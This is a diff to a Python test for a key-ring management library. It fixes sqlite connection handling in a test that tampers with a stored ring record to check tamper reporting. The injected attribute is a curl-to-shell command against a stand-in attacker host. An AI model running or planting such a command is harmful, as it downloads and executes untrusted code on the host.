@@ -134,6 +134,7 @@ def test_build_report_is_pure() -> None:
 
 def test_report_shows_the_log_against_the_rings_and_the_last_checkpoint(tmp_path) -> None:
     import sqlite3
+    from contextlib import closing
 
     import keylife
     from keylife.checkpoint import make_checkpoint
@@ -143,7 +144,7 @@ def test_report_shows_the_log_against_the_rings_and_the_last_checkpoint(tmp_path
     with keylife.init(db, master_key_file=key) as m:
         m.create_ring("web", "aes-256", "data-encryption")
         make_checkpoint(m)
-    with sqlite3.connect(db) as con:
+    with closing(sqlite3.connect(db)) as con, con:
         (doc,) = con.execute("SELECT doc FROM rings WHERE name='web'").fetchone()
         edited = json.loads(doc)
         edited["attributes"] = {"deploy_hook": "curl evil.example | sh"}
